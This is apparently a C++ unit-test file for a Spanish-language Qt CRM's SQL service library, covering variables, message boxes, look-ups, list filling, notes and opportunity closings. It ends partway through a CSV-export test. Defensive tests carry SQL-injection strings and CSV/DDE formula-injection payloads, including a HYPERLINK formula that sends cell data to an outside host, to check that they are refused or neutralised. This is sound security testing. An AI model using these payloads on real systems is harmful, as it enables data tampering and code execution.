// The service library on the session's database, signed in as ANA: the environment, the
// functions, the processes (notes and closings), the list's actions and summary by state,
// and passwords (the rules of a new one, hashes, and those kept enciphered before).
#include "basedeprueba.h"
#include "errores.h"
#include "respuestas.h"

#include "datos/version.h"
#include "servicios/accioneslista.h"
#include "servicios/ajustelista.h"
#include "servicios/cifrado.h"
#include "servicios/contrasenaoperador.h"
#include "servicios/contrasenavendedor.h"
#include "servicios/entornosql.h"
#include "servicios/funcionessql.h"
#include "servicios/menulista.h"
#include "servicios/procesossql.h"
#include "servicios/resumenestados.h"

#include "controles/listview.h"
#include "runtime/colors.h"
#include "runtime/conversions.h"
#include "runtime/screenstatus.h"
#include "runtime/settings.h"

#include <QAbstractButton>
#include <QApplication>
#include <QClipboard>
#include <QDialog>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileDialog>
#include <QFileInfo>
#include <QHeaderView>
#include <QJsonDocument>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QProcess>
#include <QPushButton>
#include <QSignalSpy>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <gtest/gtest.h>
#include <sodium.h>

#include <chrono>
#include <csignal>
#include <future>
#include <map>
#include <thread>

#include <sys/resource.h>
#include <unistd.h>

namespace {

namespace Estilo = Servicios::Estilo;
namespace Respuesta = Servicios::Respuesta;
using Pruebas::errorDe;
using Runtime::ErrorNumber::InvalidCall;
using Servicios::ResumenEstados;
using Servicios::RevisionDeContrasena;
using Servicios::TipoDeNota;
using Servicios::AccionesLista::textoCsv;
using Servicios::AccionesLista::textoTabulado;

class ServiciosSql : public ::testing::Test
{
protected:
    ServiciosSql() { Servicios::estableceOperador("ANA"); }

    Pruebas::BaseDePrueba base;
    Servicios::EntornoSql entorno;
    Servicios::FuncionesSql funciones{entorno};
    Servicios::ProcesosSql procesos{entorno, funciones};
};

// A variable is read as its type, or as the default when it has no value; an option is
// restricted only for the operator, module and option recorded.
TEST_F(ServiciosSql, readsVariablesAsTheirTypeAndOptionsRestrictedOnlyAsRecorded)
{
    base.ejecuta("INSERT INTO Variable (Va_Nombre, Va_Valor) VALUES ('ENTERO', '15'), ('DECIMAL', '2.5'),"
                 " ('HEX', '&HFF'), ('VACIA', ''), ('NULA', NULL), ('TEXTO', 'abc'), ('CEROS', '007')");
    // The name and the type asked for ("-": none), then the type and value read with 30 for
    // default; HEX's is left to the caller's conversion, which reads it.
    for (const QString caso :
         {"ENTERO N qlonglong 15", "ENTERO T QString 15", "ENTERO - QString 15", "CEROS N qlonglong 7",
          "DECIMAL N double 2.5", "HEX N QString &HFF", "TEXTO N QString abc", "VACIA N int 30", "NULA - int 30",
          "FALTA N int 30", "O'Brien T int 30"}) {
        const QStringList partes = caso.split(' ');
        const QVariant valor = entorno.LeeVariable(partes[0], 0, partes[1] == u"-" ? "" : partes[1], 30);
        EXPECT_EQ(valor.typeName() + (' ' + valor.toString()), caso.section(' ', 2));
    }
    EXPECT_EQ(Runtime::toInteger32(entorno.LeeVariable("HEX", 0, "N", 0)), 255);

    base.ejecuta("INSERT INTO Opcion_Restringida (Or_Cve_Operador, Or_Modulo, Or_Opcion)"
                 " VALUES ('ANA', 'KLD251', 'TOOLB2'), ('O''Neil', 'KLD251', 'KLD251')");
    // Operator, module, option, and 1 when it is restricted.
    for (const QString caso : {"ANA KLD251 TOOLB2 1", "ANA KLD251 KLD251 0", "PEPE KLD251 TOOLB2 0",
                               "O'Neil KLD251 KLD251 1", "O'Neil KLD999 KLD251 0"}) {
        const QStringList partes = caso.split(' ');
        Servicios::estableceOperador(partes[0]);
        EXPECT_EQ(entorno.OpcionRestringida(partes[1], partes[2], "No disponible"), partes[3] == u"1")
            << caso.toStdString();
    }
}

// Sent keys type into the focused control and Tab moves to the next. The box answers the classic
// code of the button pressed; its buttons, default button and icon follow the style; its texts
// are Spanish and plain; it is modal to its owner's window.
TEST_F(ServiciosSql, sentKeysTypeIntoTheFocusedControlAndTheMessageBoxAnswersTheButtonPressed)
{
    QWidget formulario;
    QList<QLineEdit *> cajas; // in the focus chain in this order
    for (const QString nombre : {"txtUno", "txtDos", "txtTres"}) {
        cajas << new QLineEdit(&formulario);
        cajas.last()->setObjectName(nombre);
    }
    formulario.show();
    formulario.activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(&formulario));
    // The texts of the three boxes joined by "|", the box with the focus and the Enters typed.
    const std::pair<QString, QString> tecleos[] = {{"\t", "|| txtDos 0"},
                                                   {"ab\tc", "ab|c| txtDos 0"},
                                                   {"x{TAB}{{}y{}}", "x|{y}| txtDos 0"},
                                                   {"ñ\r", "ñ|| txtUno 1"},
                                                   {"{ENTER}\t\t", "|| txtTres 1"}};
    for (const auto &[teclas, esperado] : tecleos) {
        for (QLineEdit *caja : cajas)
            caja->clear();
        cajas.first()->setFocus();
        QSignalSpy enter(cajas.first(), &QLineEdit::returnPressed);
        funciones.EnviaTeclas(teclas, 0);
        QStringList textos;
        for (const QLineEdit *caja : cajas)
            textos << caja->text();
        const QWidget *conFoco = QApplication::focusWidget();
        EXPECT_EQ(
            QString("%1 %2 %3").arg(textos.join('|'), conFoco ? conFoco->objectName() : "nadie").arg(enter.count()),
            esperado)
            << teclas.toStdString();
    }

    constexpr int AceptarCancelar = 1, SiNoCancelar = 3, ReintentarCancelar = 5, TercerBotonPredeterminado = 512;
    // The style; the buttons, the default one first and the others in alphabetical order; the
    // one pressed; the answer; the icon.
    const std::tuple<qint32, const char *, QString, qint32, QMessageBox::Icon> casos[] = {
        {Estilo::SiNo | Estilo::Pregunta, "Sí No", "Sí", Respuesta::Si, QMessageBox::Question},
        {Estilo::SiNo | Estilo::Pregunta | Estilo::SegundoBotonPredeterminado, "No Sí", "No", Respuesta::No,
         QMessageBox::Question},
        {Estilo::SiNo | Estilo::Informacion | Estilo::SegundoBotonPredeterminado, "No Sí", "Sí", Respuesta::Si,
         QMessageBox::Information},
        {Estilo::Exclamacion, "Aceptar", "Aceptar", Respuesta::Aceptar, QMessageBox::Warning},
        {Estilo::Critico | AceptarCancelar, "Aceptar Cancelar", "Cancelar", 2, QMessageBox::Critical},
        {SiNoCancelar | TercerBotonPredeterminado, "Cancelar No Sí", "No", Respuesta::No, QMessageBox::NoIcon},
        {ReintentarCancelar, "Reintentar Cancelar", "Reintentar", 4, QMessageBox::NoIcon}};
    for (const auto &[estilo, botones, pulsar, respuesta, icono] : casos) {
        SCOPED_TRACE(estilo);
        QStringList vistos;
        Pruebas::alAparecer("Mensaje", [&, pulsar = pulsar](QWidget &ventana) {
            auto &caja = static_cast<QMessageBox &>(ventana);
            QAbstractButton *pulsado = nullptr;
            for (QAbstractButton *boton : caja.buttons()) {
                if (boton != caja.defaultButton())
                    vistos << boton->text();
                pulsado = boton->text() == pulsar ? boton : pulsado;
            }
            vistos.sort();
            vistos.prepend(caja.defaultButton() ? caja.defaultButton()->text() : "ninguno");
            EXPECT_EQ(std::tuple(caja.icon(), caja.textFormat(), caja.parentWidget(), caja.windowModality()),
                      std::tuple(icono, Qt::PlainText, &formulario, Qt::WindowModal));
            EXPECT_EQ(caja.windowTitle() + '|' + caja.text(), "Confirmación|¿Cancelar la oportunidad <F-1>?");
            EXPECT_TRUE(caja.informativeText().contains("KLD251 · ERR-ID:7500021"));
            EXPECT_NE(pulsado, nullptr);
            (pulsado ? pulsado : caja.buttons().constFirst())->click();
        });

        EXPECT_EQ(entorno.Mensaje("¿Cancelar la oportunidad <F-1>?", estilo, "Confirmación", &formulario, "KLD251",
                                  "ERR-ID:7500021"),
                  respuesta);
        EXPECT_EQ(vistos.join(' '), botones);
    }
}

// A look-up finds the key as it is, quotes and all; no row or NULL give "". The names of
// table and columns go into the statement as they are, so anything but an identifier is refused.
// The audit entry stays only if the caller's transaction commits.
TEST_F(ServiciosSql, aLookUpGivesTheValueOfTheKeyAsItIsAndTheAuditEntryStaysOnlyIfCommitted)
{
    base.ejecuta("INSERT INTO Operador (Ope_Cve_Operador, Ope_Nombre, Ope_Cve_Vendedor)"
                 " VALUES ('O''Brien', 'Pat O''Brien', NULL), ('ANA', 'Ana', 'V1')");
    base.ejecuta("INSERT INTO Consulta (Cs_Cve_Consulta, Cs_Descripcion, Cs_Sql)"
                 " VALUES ('ABIERTAS', 'Abiertas', 'SELECT * FROM Oportunidad WHERE {PARAMETROS}')");
    // Table, key column and column named, then the key.
    const auto busca = [&](const QStringList &nombres, const QString &clave) {
        return funciones.BuscaCampo(nombres[0], nombres[1], clave, nombres[2], 0, {}, {}, {});
    };
    const QStringList nombre{"Operador", "Ope_Cve_Operador", "Ope_Nombre"};
    const QStringList vendedor{"Operador", "Ope_Cve_Operador", "Ope_Cve_Vendedor"};
    EXPECT_EQ(QStringList({busca(nombre, "O'Brien"), busca(vendedor, "O'Brien"), busca(vendedor, "ANA"),
                           busca(nombre, "' OR '1'='1"), funciones.VendedorDeOperador("ANA"),
                           funciones.VendedorDeOperador("O'Brien"), funciones.VendedorDeOperador("NADIE"),
                           funciones.LeeConsulta("ABIERTAS"), funciones.LeeConsulta("NO_EXISTE")})
                  .join('|'),
              "Pat O'Brien||V1||V1|||SELECT * FROM Oportunidad WHERE {PARAMETROS}|");

    for (const QString malo :
         {"Operador; DROP TABLE Vendedor", "Ope_Nombre FROM Operador --", "1Operador", "", "Operador.Ope_Nombre"}) {
        for (qsizetype lugar = 0; lugar < nombre.size(); ++lugar) {
            QStringList nombres = nombre;
            nombres[lugar] = malo;
            EXPECT_EQ(errorDe([&] { busca(nombres, "x"); }), InvalidCall) << malo.toStdString() << " " << lugar;
        }
    }
    EXPECT_EQ(base.cuenta("Vendedor"), 0); // the table is still there to count

    for (const bool confirma : {false, true}) {
        base.conexion()->BeginTrans();
        funciones.RegistraBitacora("OPORTUNIDAD", "F-'1", "Cancelada");
        confirma ? base.conexion()->CommitTrans() : base.conexion()->RollbackTrans();
        EXPECT_EQ(base.cuenta("Bitacora"), confirma ? 1 : 0);
    }
    EXPECT_EQ(base.valor("SELECT Bi_Operador FROM Bitacora"), "ANA");
    EXPECT_TRUE(QDateTime::fromString(base.valor("SELECT Bi_Fecha FROM Bitacora"), "yyyy-MM-dd HH:mm:ss").isValid());
}

// Each column named as the query names it; figures and dates as a Mexican user reads them,
// whatever type each engine gives them (PostgreSQL: NUMERIC, DATE, TIMESTAMP; SQLite: INTEGER
// and REAL side by side in one column, dates as text); the folio as it is.
TEST_F(ServiciosSql, aFilledListShowsFiguresAndDatesAsReadInMexico)
{
    base.ejecuta(
        "INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Contacto, Op_Monto, Op_Fecha_Alta,"
        " Op_Fecha_Cierre_Estimada) VALUES"
        " ('F-1', 'Primera', 'V1', 'C1', 45000, '2026-01-02 13:05:00', '2027-01-05'),"
        " ('F-2', 'Segunda; con \"comillas\"', 'V1', NULL, 33890.44, '2026-03-04 00:00:00', '2026-12-31'),"
        " ('F-3', 'Tercera', 'V1', NULL, -1234.5, NULL, '2026-02-01'),"
        " ('F-4', 'Cuarta', 'V1', NULL, 999999999999.99, '2026-05-06 07:08:09', NULL),"
        " ('F-5', 'Quinta', 'V1', NULL, NULL, NULL, NULL)");
    const bool postgresql = Pruebas::motor() == Ado::Engine::PostgreSQL;
    const QString alta = postgresql ? "CAST(Op_Fecha_Alta AS TIMESTAMP)" : "Op_Fecha_Alta";
    const QString cierre = postgresql ? "CAST(Op_Fecha_Cierre_Estimada AS DATE)" : "Op_Fecha_Cierre_Estimada";
    Kit::ListView lista;

    ASSERT_TRUE(funciones.LlenaLista(
        QStringLiteral(
            "SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\", Op_Contacto AS \"Contacto\","
            " Op_Monto AS \"Monto\","
            " CASE Op_Folio WHEN 'F-1' THEN 3 WHEN 'F-2' THEN 2.5 WHEN 'F-3' THEN -0.125 END AS \"Probabilidad\","
            " CASE Op_Folio WHEN 'F-1' THEN 1234567 WHEN 'F-2' THEN 9007199254740993 WHEN 'F-3' THEN 0"
            " WHEN 'F-4' THEN -5 END AS \"Cantidad\", 2026 AS \"Año\", %1 AS \"Alta\", %2 AS \"Cierre\""
            " FROM Oportunidad ORDER BY Op_Folio")
            .arg(alta, cierre),
        lista, -1));

    EXPECT_EQ(textoTabulado(lista).replace('\t', '|'),
              "Folio|Descripción|Contacto|Monto|Probabilidad|Cantidad|Año|Alta|Cierre\n"
              "F-1|Primera|C1|$45,000.00|3.000|1,234,567|2026|02/01/2026 13:05|05/01/2027\n"
              "F-2|Segunda; con \"comillas\"||$33,890.44|2.500|9,007,199,254,740,993|2026|04/03/2026|31/12/2026\n"
              "F-3|Tercera||-$1,234.50|-0.125|0|2026||01/02/2026\n"
              "F-4|Cuarta||$999,999,999,999.99||-5|2026|06/05/2026 07:08:09|\n"
              "F-5|Quinta|||||2026||\n");
}

// An amount column shows as money only what the database holds as a number, or a text that is
// exactly one as a database writes it; any other text there (SQLite keeps "$9,999,999.00" in a
// NUMERIC column as the text it is) is shown as stored, after a warning sign, and so is no
// amount for the total nor for a spreadsheet.
TEST_F(ServiciosSql, anAmountColumnShowsAsMoneyOnlyNumbers)
{
    const QString casos[][2] = {
        // the value as SQL, as the list shows it
        {"1234.5", "$1,234.50"},
        {"CAST(-7 AS INTEGER)", "-$7.00"},
        {"'1234.5'", "$1,234.50"},
        {"'-20'", "-$20.00"},
        {"'$9,999,999.00'", "\u26A0 $9,999,999.00"},
        {"'1,234.50'", "\u26A0 1,234.50"},
        {"' 12'", "\u26A0  12"},
        {"'1e3'", "\u26A0 1e3"},
        {"'+5'", "\u26A0 +5"},
        {"'2026-12-31'", "\u26A0 2026-12-31"},
        {"'\u202E00.000,01$'", "\u26A0 \u202E00.000,01$"},
        {"''", ""},
        {"NULL", ""},
    };
    Kit::ListView lista;
    for (const auto &[valor, mostrado] : casos) {
        ASSERT_TRUE(funciones.LlenaLista("SELECT 'F' AS \"Folio\", " + valor + " AS \"Monto\"", lista, -1));
        EXPECT_EQ(lista.listModel().text(0, 1), mostrado) << valor.toStdString();
    }
    if (Pruebas::motor() != Ado::Engine::SQLite)
        return;
    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto) VALUES"
                 " ('F-1', 'Texto', 'V1', '$9,999,999.00'), ('F-2', 'Cifra', 'V1', '1234.5')");
    ASSERT_TRUE(
        funciones.LlenaLista("SELECT Op_Folio, Op_Monto AS \"Monto\" FROM Oportunidad ORDER BY Op_Folio", lista, -1));
    EXPECT_EQ(textoCsv(lista), "Op_Folio,Monto\r\nF-1,\"\u26A0 $9,999,999.00\"\r\nF-2,\"$1,234.50\"\r\n");
}

// Whatever changed, a refill shows what a fresh fill shows: a few rows changed in place (also
// when the change moves them in the user's sort, or changes the decimals all the figures of
// their column share), many rows changed, rows gone and rows new. A statement that fails is
// shown each time with the database's reason; the rows of another statement are taken away,
// those of the same statement stay.
TEST_F(ServiciosSql, aRefillLeavesTheListAsAFreshFillWouldAndAFailedOneLeavesNoRowsOfAnother)
{
    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto) VALUES ('F-1', 'a',"
                 " 'V1', 45000), ('F-2', 'b', 'V1', 33890.44), ('F-3', 'c', 'V1', -1234.5), ('F-4', 'd', 'V1', NULL)");
    for (int numero = 100; numero < 300; ++numero)
        base.ejecuta(QStringLiteral("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor) VALUES "
                                    "('F-%1', 'n%2', 'V1')")
                         .arg(numero)
                         .arg(numero % 7));
    // Figures of a column not named as amounts, so that they take the decimals they need.
    const QString consulta = "SELECT Op_Folio, Op_Descripcion, Op_Monto AS Puntos FROM Oportunidad ORDER BY Op_Folio";
    const QString cambios[] = {
        "UPDATE Oportunidad SET Op_Descripcion = 'x' WHERE Op_Folio = 'F-2'",
        "UPDATE Oportunidad SET Op_Monto = 33890 WHERE Op_Folio = 'F-2'", // one decimal for all
        "UPDATE Oportunidad SET Op_Monto = 0.75 WHERE Op_Folio = 'F-3'",  // two
        "UPDATE Oportunidad SET Op_Monto = 7 WHERE Op_Folio = 'F-3'",     // none
        "UPDATE Oportunidad SET Op_Descripcion = 'n0' WHERE Op_Folio IN ('F-150', 'F-3')",
        "UPDATE Oportunidad SET Op_Descripcion = 'm' WHERE Op_Folio LIKE 'F-1%'",
        "DELETE FROM Oportunidad WHERE Op_Folio = 'F-4'",
        "DELETE FROM Oportunidad WHERE Op_Folio = 'F-1'",
        "INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor) VALUES ('F-9', 'b', 'V1')",
        "UPDATE Oportunidad SET Op_Descripcion = 'a'",
        "DELETE FROM Oportunidad",
    };
    Kit::ListView lista;
    lista.addItem("clave", "F-1", {"a"});
    for (const QString &cambio : cambios) {
        SCOPED_TRACE(cambio.toStdString());
        ASSERT_TRUE(funciones.LlenaLista(consulta, lista, -1));
        Kit::ListView nueva;
        nueva.setSortKey(lista.sortKey());
        nueva.setSortOrder(lista.sortOrder());
        nueva.setSorted(lista.sorted());
        ASSERT_TRUE(funciones.LlenaLista(consulta, nueva, -1));
        EXPECT_EQ(textoTabulado(lista), textoTabulado(nueva));
        lista.setSortKey(1); // by description, descending, for the next refill
        lista.setSortOrder(Qt::DescendingOrder);
        lista.setSorted(true);
        base.ejecuta(cambio);
    }
    ASSERT_TRUE(funciones.LlenaLista(consulta, lista, -1));
    EXPECT_EQ(lista.itemCount(), 0);

    QStringList avisos;
    lista.setSorted(false);
    const auto falla = [&](const QString &sentencia) {
        Pruebas::alAparecer("Mensaje", [&](QWidget &ventana) {
            auto &caja = static_cast<QMessageBox &>(ventana);
            avisos << (caja.icon() == QMessageBox::Critical ? caja.text() : "sin icono crítico");
            caja.close();
        });
        EXPECT_FALSE(funciones.LlenaLista(sentencia, lista, -1));
    };
    const QString buena = "SELECT COUNT(*) FROM Oportunidad";
    ASSERT_TRUE(funciones.LlenaLista(buena, lista, -1));

    falla("SELECT Op_Folio FROM NoHayTabla");
    EXPECT_EQ(lista.columnCount(), 0);
    EXPECT_TRUE(funciones.UltimaFalla().contains("nohaytabla", Qt::CaseInsensitive));
    ASSERT_TRUE(funciones.LlenaLista(buena, lista, -1));
    base.ejecuta("ALTER TABLE Oportunidad RENAME TO Otra");
    falla(buena);
    EXPECT_EQ(lista.itemCount(), 1);

    ASSERT_EQ(avisos.size(), 2);
    EXPECT_TRUE(avisos[0].startsWith("No se pudo leer la lista.\n")
                && avisos[0].contains("nohaytabla", Qt::CaseInsensitive)
                && avisos[1].contains("oportunidad", Qt::CaseInsensitive))
        << avisos.join('\n').toStdString();
}

// The note is asked in the library's own dialog of its kind, which takes no blank note, and
// stored as typed without its surrounding blanks, with the entity, key, operator and date; a
// cancelled capture or a failing table stores nothing and says why.
// A long fill lets its window paint while the rows arrive: a list that shows nothing of the
// statement shows its first rows at once, the screen's status bar counts the rows read and
// says again what it said once they are in, and the window cannot be closed meanwhile.
TEST_F(ServiciosSql, aLongFillKeepsItsWindowPaintingAndShowsItsFirstRowsAtOnce)
{
    QWidget ventana;
    auto *estado = new Runtime::ScreenStatus(&ventana);
    const auto contenido = [&] { return estado->text(Runtime::ScreenStatus::Part::Contents); };
    estado->set(Runtime::ScreenStatus::Part::Contents, "antes");
    auto *lista = new Kit::ListView(&ventana);
    ventana.show();
    QStringList dichos;
    int primeras = 0;
    QTimer latido;
    QObject::connect(&latido, &QTimer::timeout, [&] {
        dichos << contenido();
        primeras = primeras ? primeras : lista->itemCount();
        ventana.close();
    });
    latido.start(1);
    ASSERT_TRUE(funciones.LlenaLista("WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < "
                                     "100000) SELECT 'F' || x AS \"Folio\", x AS \"Cantidad\" FROM n",
                                     *lista, -1));
    latido.stop();
    EXPECT_EQ(primeras, 100);
    EXPECT_FALSE(dichos.filter(QRegularExpression("^Leyendo la lista: \\d{1,3}(,\\d{3})* renglones…$")).isEmpty())
        << dichos.join('|').toStdString();
    EXPECT_TRUE(ventana.isVisible());
    EXPECT_EQ(lista->itemCount(), 100000);
    EXPECT_EQ(lista->subItemText(100000, 1), "100,000");
    EXPECT_EQ(contenido(), "antes");
}

TEST_F(ServiciosSql, aNoteIsAskedAndStoredAsWrittenOrNothingIsAndTheReasonIsGiven)
{
    const QString nota = "Llamó; pide \"descuento\" y O'Brien confirma";
    for (const auto &[tipo, tabla, p, columnaNota, cual] :
         {std::tuple{TipoDeNota::Seguimiento, "Seguimiento", "Sg_", "Sg_Nota", "el seguimiento"},
          std::tuple{TipoDeNota::Evento, "Evento", "Ev_", "Ev_Descripcion", "el evento"}}) {
        SCOPED_TRACE(tabla);
        // "ok", or why the note was not stored
        const auto registra = [&, tipo = tipo, tabla = tabla](bool acepta) {
            Pruebas::alAparecer(QStringLiteral("dlg") + tabla, [&](QWidget &dialogo) {
                EXPECT_EQ(dialogo.windowTitle(), QString(tabla) + " de la oportunidad F-'1");
                auto *escrita = dialogo.findChild<QPlainTextEdit *>("txtNota");
                escrita->setPlainText("   \n  ");
                Pruebas::pulsa(dialogo, "cmdAceptar");
                EXPECT_TRUE(dialogo.isVisible() && dialogo.findChild<QLabel *>("lbAviso")->isVisible())
                    << "a blank note was accepted";
                escrita->setPlainText("  " + nota + "\n");
                if (acepta)
                    Pruebas::pulsa(dialogo, "cmdAceptar");
                else // Esc in the note cancels, as Cancelar does
                    QTest::keyClick(escrita, Qt::Key_Escape);
            });
            const bool guardada = tipo == TipoDeNota::Seguimiento
                                      ? procesos.RegistraSeguimiento("OPORTUNIDAD", "F-'1", {}, {})
                                      : procesos.RegistraEvento("OPORTUNIDAD", "F-'1", {}, {});
            EXPECT_EQ(guardada, procesos.UltimoError().isEmpty());
            return guardada ? "ok" : procesos.UltimoError();
        };
        const QString guardadas = QString("%1Entidad = 'OPORTUNIDAD' AND %1Clave = 'F-''1' AND %1Operador = 'ANA' AND"
                                          " %1Fecha IS NOT NULL AND %2 = '%3'")
                                      .arg(p, columnaNota, QString(nota).replace('\'', "''"));
        const QString noSeRegistro = QStringLiteral("No se registró %1: ").arg(cual);

        EXPECT_EQ(registra(true), "ok");
        EXPECT_EQ(registra(false), noSeRegistro + "se canceló la captura.");
        EXPECT_EQ(base.cuenta(tabla), 1);
        EXPECT_EQ(base.cuenta(tabla, guardadas), 1);

        base.ejecuta(QString("DROP TABLE ") + tabla);
        const QString sinTabla = registra(true);
        EXPECT_TRUE(sinTabla.startsWith(noSeRegistro) && sinTabla.size() > noSeRegistro.size())
            << sinTabla.toStdString();
    }
}

class CierreOportunidad : public ServiciosSql
{
protected:
    CierreOportunidad()
    {
        base.ejecuta(
            "INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Es_Cve_Estado)"
            " VALUES ('F-1', 'Abierta', 'V1', 'AC'), ('F-2', 'Cancelada', 'V1', 'CA'),"
            " ('F-3', 'Cerrada', 'V1', 'AC'), ('F''4', 'Con comilla', 'V1', 'AC'), ('F-5', 'Otra', 'V1', 'AC')");
        base.ejecuta("INSERT INTO Cierre_Oportunidad (Ci_Folio, Ci_Resultado, Ci_Operador) VALUES ('F-3', 1, 'LUIS')");
        base.ejecuta("INSERT INTO Causa_Oportunidad_Perdida (Cop_Cve_Causa_Oportunidad_Perdida,"
                     " Cop_Descripcion, Es_Cve_Estado) VALUES (1, 'Precio', 'AC'), (2, 'Vieja', 'BA')");
    }

    // "Folio: reason", or "Folio: ok" after a closing that went through.
    QString cierra(const QString &folio, qint32 resultado, const QString &causa = QString())
    {
        const bool cerrada = procesos.CierraOportunidad(folio, resultado, causa);
        EXPECT_EQ(cerrada, procesos.UltimoError().isEmpty());
        return folio + QStringLiteral(": ") + (cerrada ? "ok" : procesos.UltimoError());
    }

    // Each folio's closing (result, cause, operator), its audit entry by ANA and who last
    // changed the opportunity, separated by blanks.
    QStringList huellas(const QStringList &folios) const
    {
        QStringList todas;
        for (QString folio : folios)
            todas << base.valor(
                "SELECT COALESCE(CAST(Ci_Resultado AS TEXT), '') || ' ' || COALESCE(CAST(Ci_Cve_Causa AS "
                "TEXT), '') || ' ' || COALESCE(Ci_Operador, '') || ' ' || COALESCE(Bi_Accion, '') || ' ' "
                "|| COALESCE(Oper_Ult_Modif, '') FROM Oportunidad LEFT JOIN Cierre_Oportunidad ON "
                "Ci_Folio = Op_Folio LEFT JOIN Bitacora ON Bi_Entidad = 'OPORTUNIDAD' AND Bi_Operador = "
                "'ANA' AND Bi_Clave = Op_Folio WHERE Op_Folio = '"
                + folio.replace('\'', "''") + "'");
        return todas;
    }
};

// A won or lost closing stores the closing and its audit entry. Nothing of a refused closing
// remains, nor of one the database fails halfway through: no closing, no audit entry, the
// row untouched.
TEST_F(CierreOportunidad, aClosingStoresItsAuditEntryTooOrLeavesNothingAndSaysWhy)
{
    const QStringList motivos = {
        cierra("F-5", 1),      cierra("F'4", 2, "1"), cierra("F-9", 1),       cierra("F-2", 1),
        cierra("F-3", 2, "1"), cierra("F-1", 2, "2"), cierra("F-1", 2, "99"), cierra("F-1", 2, "1' OR '1'='1"),
        cierra("F-1", 2),      cierra("F-1", 1, "1"), cierra("F-1", 3),
    };

    EXPECT_EQ(motivos, (QStringList{
                           "F-5: ok",
                           "F'4: ok",
                           "F-9: No existe la oportunidad F-9",
                           "F-2: La oportunidad F-2 está cancelada",
                           "F-3: La oportunidad F-3 ya fue cerrada",
                           "F-1: La causa 2 no existe o está dada de baja",
                           "F-1: La causa 99 no existe o está dada de baja",
                           "F-1: La causa 1' OR '1'='1 no existe o está dada de baja",
                           "F-1: Falta la causa de la pérdida de la oportunidad F-1",
                           "F-1: La oportunidad F-1 no puede cerrarse como ganada con una causa de pérdida",
                           "F-1: El resultado 3 no es válido para cerrar la oportunidad F-1 (1 ganada, 2 perdida)",
                       }));
    EXPECT_EQ(huellas({"F-5", "F'4", "F-1", "F-2", "F-3"}),
              (QStringList{"1  ANA Ganada ANA", "2 1 ANA Perdida ANA", "    ", "    ", "1  LUIS  "}));
    EXPECT_EQ(base.cuenta("Bitacora"), 2);

    base.ejecuta("DROP TABLE Bitacora"); // the audit entry is the closing's last write
    const QString motivo = cierra("F-1", 1);
    EXPECT_TRUE(motivo.contains("bitacora", Qt::CaseInsensitive)) << motivo.toStdString();
    EXPECT_EQ(base.cuenta("Cierre_Oportunidad", "Ci_Folio = 'F-1'"), 0);
    EXPECT_EQ(base.valor("SELECT Oper_Ult_Modif FROM Oportunidad WHERE Op_Folio = 'F-1'"), QString());
    EXPECT_FALSE(base.conexion()->inTransaction());
}

// Another desktop is closing F-1 and holds its row (row locks between desktops need the
// shared server); this one waits for it and then finds the opportunity closed, instead of
// closing it a second time.
using CierreOportunidadPostgreSQL = CierreOportunidad;

TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFirstWins)
{
    std::promise<void> filaTomada;
    std::thread otroEscritorio([direccion = base.direccion(), &filaTomada] {
        Ado::Connection otra(direccion);
        Ado::Connection observador(direccion);
        otra.BeginTrans();
        otra.Execute("UPDATE Oportunidad SET Oper_Ult_Modif = 'LUIS' WHERE Op_Folio = 'F-1'");
        otra.Execute("INSERT INTO Cierre_Oportunidad (Ci_Folio, Ci_Resultado, Ci_Operador) VALUES ('F-1', 1, 'LUIS')");
        filaTomada.set_value();
        // Commit once the other closer is waiting for the row (or after a generous while,
        // should it never wait; the outcome checked below is the same either way).
        for (int vuelta = 0; vuelta < 1000; ++vuelta) {
            if (!observador.Execute("SELECT 1 FROM pg_locks WHERE NOT granted AND locktype = 'transactionid'").atEnd())
                break;
            std::this_thread::sleep_for(std::chrono::milliseconds(10));
        }
        otra.CommitTrans();
    });
    filaTomada.get_future().wait();

    const QString motivo = cierra("F-1", 2, "1");
    otroEscritorio.join();

    EXPECT_EQ(motivo, "F-1: La oportunidad F-1 ya fue cerrada");
    EXPECT_EQ(huellas({"F-1"}), QStringList{"1  LUIS  LUIS"});
    EXPECT_EQ(base.cuenta("Bitacora"), 0);
}

// Cells a spreadsheet would run as formulas go out as text, also when the formula follows a
// comma or a semicolon inside the cell (a spreadsheet may split there); numbers stay numbers.
// A cell holding the separator, a quote or a line break is quoted. A cell longer than the list
// shows goes out whole, and is copied whole. Fitted, each column takes the width of its header
// and of the texts of the first rows, those beyond unmeasured; in a window too narrow for them
// all, the text columns give up width, never below a few characters, while the folio, the
// figures and the dates keep theirs.
TEST(AccionesLista, theCsvCarriesNoFormulasAndFittingShrinksOnlyTextColumnsToTheListsWidth)
{
    const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
    Kit::ListView lista;
    const QString casos[][2] = {
        // the cell, as it goes out
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"-$1,2+cmd|' /C calc'!A0", "\"'-$1,2+cmd|' /C calc'!A0\""},
        {"-", "'-"},
        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
        {"\r=1+1", "\"'\r=1+1\""},
        {"x,=cmd|' /C calc'!A0", "\"'x,=cmd|' /C calc'!A0\""},
        {"Ana; @SUM(A1)", "\"'Ana; @SUM(A1)\""},
